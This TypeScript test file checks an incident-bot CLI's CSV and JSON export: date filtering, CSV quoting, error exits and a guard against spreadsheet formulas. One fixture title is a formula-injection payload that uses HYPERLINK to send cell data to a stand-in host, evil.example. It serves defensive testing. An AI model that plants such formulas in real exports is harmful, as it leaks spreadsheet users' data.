import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { FollowUp, Incident } from '../../lambda/incidents/types';
import { DynamoIncidentStore } from '../../lambda/store/dynamo-store';
import { anIncidentNumbered } from '../fixtures/incidents';
import { type CliRun, runCli } from '../helpers/cli';
import { startTestDynamo, type TestDynamo } from '../helpers/table';

/** The store variables are the test's alone: none of the runner's own reach the command. */
function cli(env: Record<string, string>, ...args: string[]): Promise<CliRun> {
  const base: NodeJS.ProcessEnv = { ...process.env };
  for (const name of ['DYNAMODB_ENDPOINT', 'TABLE_NAME', 'DATA_DIR']) delete base[name];
  return runCli(args, { ...base, ...env });
}

const HEADER =
  'id,title,severity,status,declaredAt,startedAt,acknowledgedAt,resolvedAt,alertSource,declaredBy,timeToAcknowledgeSeconds,timeToResolveSeconds,channel,openFollowUps';

const INCIDENTS: Incident[] = [
  // Before --since 2026-11-01: never exported.
  anIncidentNumbered(1, {
    title: 'October outage',
    declaredAt: '2026-10-20T10:00:00.000Z',
    startedAt: '2026-10-20T10:00:00.000Z',
  }),
  // Back-dated, acknowledged, resolved and settled; a title with a comma, quotes and a line break.
  anIncidentNumbered(2, {
    title: 'Checkout, "payments" down\nagain',
    severity: 'sev1',
    status: 'resolved',
    declaredBy: 'U0ANNA',
    startedAt: '2026-11-02T08:45:00.000Z',
    declaredAt: '2026-11-02T09:00:00.000Z',
    acknowledgedAt: '2026-11-02T09:01:30.000Z',
    resolvedAt: '2026-11-02T10:00:00.000Z',
    settledAt: '2026-11-02T10:05:00.000Z',
    channelId: 'C0INC2',
  }),
  // Declared by an alert, with a title that is a formula; open, no channel yet.
  anIncidentNumbered(3, {
    title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    severity: 'sev2',
    status: 'investigating',
    declaredBy: 'bot',
    alertSource: 'alertmanager: HighErrorRate',
    startedAt: '2026-11-03T12:00:00.000Z',
    declaredAt: '2026-11-03T12:00:00.000Z',
    channelId: undefined,
  }),
  // Acknowledged before it was declared: the wait runs from its start (as /incident stats counts it).
  anIncidentNumbered(4, {
    title: '+1 checkout 5xx',
    severity: 'sev3',
    status: 'monitoring',
    declaredBy: 'bot',
    alertSource: '@cloudwatch: 5xx',
    startedAt: '2026-11-03T23:00:00.000Z',
    declaredAt: '2026-11-04T00:00:00.000Z',
    acknowledgedAt: '2026-11-03T23:30:00.000Z',
    channelId: 'C0INC4',
  }),
  anIncidentNumbered(5, {
    title: '-5% orders; see @anna',
    severity: 'sev4',
    status: 'identified',
    declaredBy: 'U0BEN',
    startedAt: '2026-11-05T10:00:00.000Z',
    declaredAt: '2026-11-05T10:00:00.000Z',
    acknowledgedAt: '2026-11-05T10:00:12.500Z',
    channelId: 'C0INC5',
  }),
];

const followUp = (incidentId: string, id: string, overrides: Partial<FollowUp> = {}): FollowUp => ({
  id,
  incidentId,
  type: 'fix',
  text: `follow-up ${id}`,
  author: 'U0ANNA',
  createdAt: '2026-11-06T10:00:00.000Z',
  ...overrides,
});

const FOLLOW_UPS: FollowUp[] = [
  followUp('INC-1', 'f1'),
  followUp('INC-2', 'f2'),
  followUp('INC-2', 'f3', {
    ticket: {
      tracker: 'github',
      key: 'acme/shop#12',
      url: 'https://github.com/acme/shop/issues/12',
      id: '12',
    },
    ticketState: 'closed',
    ticketClosedAt: '2026-11-07T10:00:00.000Z',
  }),
  followUp('INC-3', 'f4', {
    ticket: {
      tracker: 'github',
      key: 'acme/shop#13',
      url: 'https://github.com/acme/shop/issues/13',
      id: '13',
    },
    ticketState: 'open',
  }),
];

async function fill(store: DynamoIncidentStore): Promise<void> {
  for (const incident of INCIDENTS) await store.createIncident(incident);
  for (const item of FOLLOW_UPS) await store.addFollowUp(item);
}

const ROW = {
  2: 'INC-2,"Checkout, ""payments"" down\nagain",sev1,resolved,2026-11-02T09:00:00.000Z,2026-11-02T08:45:00.000Z,2026-11-02T09:01:30.000Z,2026-11-02T10:00:00.000Z,,U0ANNA,90,4500,C0INC2,1',
  3: 'INC-3,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",sev2,investigating,2026-11-03T12:00:00.000Z,2026-11-03T12:00:00.000Z,,,alertmanager: HighErrorRate,alert,,,,1',
  4: "INC-4,'+1 checkout 5xx,sev3,monitoring,2026-11-04T00:00:00.000Z,2026-11-03T23:00:00.000Z,2026-11-03T23:30:00.000Z,,'@cloudwatch: 5xx,alert,1800,,C0INC4,0",
  5: "INC-5,'-5% orders; see @anna,sev4,identified,2026-11-05T10:00:00.000Z,2026-11-05T10:00:00.000Z,2026-11-05T10:00:12.500Z,,,U0BEN,12.5,,C0INC5,0",
};

const csv = (...lines: string[]) => lines.map((line) => `${line}\r\n`).join('');

let dynamo: TestDynamo;
let tableEnv: Record<string, string>;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'incident-bot-export-'));
  dynamo = await startTestDynamo();
  const tableName = await dynamo.freshTable('export');
  await fill(new DynamoIncidentStore({ client: dynamo.client, tableName }));
  tableEnv = { DYNAMODB_ENDPOINT: dynamo.endpoint, TABLE_NAME: tableName };
});
afterAll(async () => {
  await dynamo?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('incident-bot export --format csv', () => {
  it('one row per incident declared since the day, oldest first, RFC 4180 with the formula guard', async () => {
    const run = await cli(tableEnv, 'export', '--since', '2026-11-01', '--format', 'csv');
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(csv(HEADER, ROW[2], ROW[3], ROW[4], ROW[5]));
  });

  it('is the default format; --since an instant with a zone keeps incidents declared at it or later', async () => {
    // 13:00+01:00 is 12:00Z, when INC-3 was declared.
    const run = await cli(tableEnv, 'export', '--since', '2026-11-03T13:00+01:00');
    expect({ code: run.code, stdout: run.stdout }).toEqual({
      code: 0,
      stdout: csv(HEADER, ROW[3], ROW[4], ROW[5]),
    });
    const later = await cli(tableEnv, 'export', '--since', '2026-11-03T12:00:00.001Z');
    expect({ code: later.code, stdout: later.stdout }).toEqual({
      code: 0,
      stdout: csv(HEADER, ROW[4], ROW[5]),
    });
  });

  it('a period without incidents is the header alone', async () => {
    const run = await cli(tableEnv, 'export', '--since', '2027-01-01');
    expect({ code: run.code, stdout: run.stdout, stderr: run.stderr }).toEqual({
      code: 0,
      stdout: csv(HEADER),
      stderr: '',
    });
  });

  it('--out writes the file and says so on stderr', async () => {
    const out = path.join(dir, 'incidents.csv');
    const run = await cli(tableEnv, 'export', '--since', '2026-11-04', '--out', out);
    expect(run).toEqual({
      code: 0,
      stdout: '',
      stderr: `exported 2 incidents since 2026-11-04T00:00:00Z to ${out}\n`,
    });
    expect(readFileSync(out, 'utf8')).toBe(csv(HEADER, ROW[4], ROW[5]));
  });
});

describe('incident-bot export --format json', () => {
  it('the same rows with camelCase keys, null for what is missing, pretty-printed', async () => {
    const before = Date.now();
    const run = await cli(tableEnv, 'export', '--since', '2026-11-01', '--format', 'json');
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout.startsWith('{\n  "since": "2026-11-01T00:00:00.000Z",\n  "exportedAt": "')).toBe(true);
    expect(run.stdout.endsWith('\n  ]\n}\n')).toBe(true);
    const json = JSON.parse(run.stdout) as { exportedAt: string; incidents: Record<string, unknown>[] };
    expect(Date.parse(json.exportedAt)).toBeGreaterThanOrEqual(before - 1000);
    expect(Date.parse(json.exportedAt)).toBeLessThanOrEqual(Date.now());
    expect(json).toEqual({
      since: '2026-11-01T00:00:00.000Z',
      exportedAt: json.exportedAt,
      incidents: [
        {
          id: 'INC-2',
          title: 'Checkout, "payments" down\nagain',
          severity: 'sev1',
          status: 'resolved',
          declaredAt: '2026-11-02T09:00:00.000Z',
          startedAt: '2026-11-02T08:45:00.000Z',
          acknowledgedAt: '2026-11-02T09:01:30.000Z',
          resolvedAt: '2026-11-02T10:00:00.000Z',
          alertSource: null,
          declaredBy: 'U0ANNA',
          timeToAcknowledgeSeconds: 90,
          timeToResolveSeconds: 4500,
          channel: 'C0INC2',
          openFollowUps: 1,
        },
        {
          id: 'INC-3',
          // JSON is data, not a spreadsheet: the title as it is.
          title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          severity: 'sev2',
          status: 'investigating',
          declaredAt: '2026-11-03T12:00:00.000Z',
          startedAt: '2026-11-03T12:00:00.000Z',
          acknowledgedAt: null,
          resolvedAt: null,
          alertSource: 'alertmanager: HighErrorRate',
          declaredBy: 'alert',
          timeToAcknowledgeSeconds: null,
          timeToResolveSeconds: null,
          channel: null,
          openFollowUps: 1,
        },
        {
          id: 'INC-4',
          title: '+1 checkout 5xx',
          severity: 'sev3',
          status: 'monitoring',
          declaredAt: '2026-11-04T00:00:00.000Z',
          startedAt: '2026-11-03T23:00:00.000Z',
          acknowledgedAt: '2026-11-03T23:30:00.000Z',
          resolvedAt: null,
          alertSource: '@cloudwatch: 5xx',
          declaredBy: 'alert',
          timeToAcknowledgeSeconds: 1800,
          timeToResolveSeconds: null,
          channel: 'C0INC4',
          openFollowUps: 0,
        },
        {
          id: 'INC-5',
          title: '-5% orders; see @anna',
          severity: 'sev4',
          status: 'identified',
          declaredAt: '2026-11-05T10:00:00.000Z',
          startedAt: '2026-11-05T10:00:00.000Z',
          acknowledgedAt: '2026-11-05T10:00:12.500Z',
          resolvedAt: null,
          alertSource: null,
          declaredBy: 'U0BEN',
          timeToAcknowledgeSeconds: 12.5,
          timeToResolveSeconds: null,
          channel: 'C0INC5',
          openFollowUps: 0,
        },
      ],
    });
    expect(Object.keys(json.incidents[0] ?? {}).join(',')).toBe(HEADER);
  });
});

describe('incident-bot export: what it refuses', () => {
  it('a bad or missing --since, a bad --format, a FILE: exit 2, the usage, nothing written', async () => {
    const out = path.join(dir, 'refused.csv');
    const cases: [string[], string][] = [
      [['--format', 'csv'], '--since is required'],
      [
        ['--since', '2026-11-31'],
        "--since: expected a date like 2026-11-01 (00:00 UTC) or an ISO-8601 date-time with a zone like 2026-11-01T09:00+01:00; got '2026-11-31'",
      ],
      [['--since', '2026-11-01T10:00'], "got '2026-11-01T10:00'"],
      [['--since', 'last week'], "got 'last week'"],
      [['--since', '2026-11-01', '--format', 'xlsx'], "--format: expected csv or json; got 'xlsx'"],
      [['--since', '2026-11-01', 'incidents.csv'], 'takes no FILE, got incidents.csv'],
      [['--since', '2026-11-01', '--limit', '5'], "Unknown option '--limit'"],
    ];
    const runs = await Promise.all(cases.map(([args]) => cli(tableEnv, 'export', ...args, '--out', out)));
    expect(
      runs.map((run, i) => ({
        args: cases[i]?.[0],
        code: run.code,
        stdout: run.stdout,
        says:
          run.stderr.startsWith(`incident-bot: ${cases[i]?.[1]}`) ||
          run.stderr.includes(`${cases[i]?.[1]}\n`),
        usage: run.stderr.includes(
          'Usage: incident-bot export --since DATE [--format csv|json] [--out FILE]',
        ),
      })),
    ).toEqual(cases.map(([args]) => ({ args, code: 2, stdout: '', says: true, usage: true })));
    expect(existsSync(out)).toBe(false);
  });

  it('a table that does not exist: exit 1 naming it', async () => {
    const run = await cli(
      { DYNAMODB_ENDPOINT: dynamo.endpoint, TABLE_NAME: 'no-such-table' },
      'export',
      '--since',
      '2026-11-01',
    );
    expect(run).toEqual({
      code: 1,
      stdout: '',
      stderr: `table 'no-such-table' at ${dynamo.endpoint}: no such table\n`,
    });
  });

  it('a DATA_DIR without a store: exit 1, and no store is made there', async () => {
    const empty = path.join(dir, 'empty');
    const run = await cli({ DATA_DIR: empty }, 'export', '--since', '2026-11-01');
    expect(run).toEqual({
      code: 1,
      stdout: '',
      stderr: `${empty}: no incident-bot store here (${path.join(empty, 'dynamodb')} does not exist). Set DATA_DIR to the local server's data directory, or DYNAMODB_ENDPOINT or TABLE_NAME for another store.\n`,
    });
    expect(existsSync(empty)).toBe(false);
  });

  it('--help describes the command; the overview lists it', async () => {
    const [help, overview] = await Promise.all([cli({}, 'export', '--help'), cli({}, '--help')]);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Usage: incident-bot export --since DATE [--format csv|json] [--out FILE]');
    expect(help.stdout).toMatch(/--format F\s+csv \(the default/);
    expect(overview.code).toBe(0);
    expect(overview.stdout).toContain('export --since DATE [--format csv|json] [--out FILE]');
  });
});

describe('incident-bot export from the local server store (DATA_DIR)', () => {
  it('reads the store on disk, and refuses it while another process holds it', async () => {
    const dataDir = path.join(dir, 'data');
    // The local server's store: dynalite on <DATA_DIR>/dynamodb, its default table.
    const server = await startTestDynamo({ dataDir });
    try {
      const store = new DynamoIncidentStore({ client: server.client, tableName: 'incident-bot' });
      await store.ensureTable();
      await fill(store);
      const held = await cli({ DATA_DIR: dataDir }, 'export', '--since', '2026-11-01');
      expect(held).toEqual({
        code: 1,
        stdout: '',
        stderr: `${dataDir}: the store is in use by another process (a running local server?). Stop it, or export while it is stopped.\n`,
      });
    } finally {
      await server.close();
    }

    const run = await cli({ DATA_DIR: dataDir }, 'export', '--since', '2026-11-02', '--format', 'csv');
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: '' });
    expect(run.stdout).toBe(csv(HEADER, ROW[2], ROW[3], ROW[4], ROW[5]));
    // Closed after the export: the store opens again.
    const again = await cli({ DATA_DIR: dataDir }, 'export', '--since', '2026-11-05', '--format', 'json');
    expect(again.code).toBe(0);
    expect((JSON.parse(again.stdout) as { incidents: { id: string }[] }).incidents.map((i) => i.id)).toEqual([
      'INC-5',
    ]);
  });
});
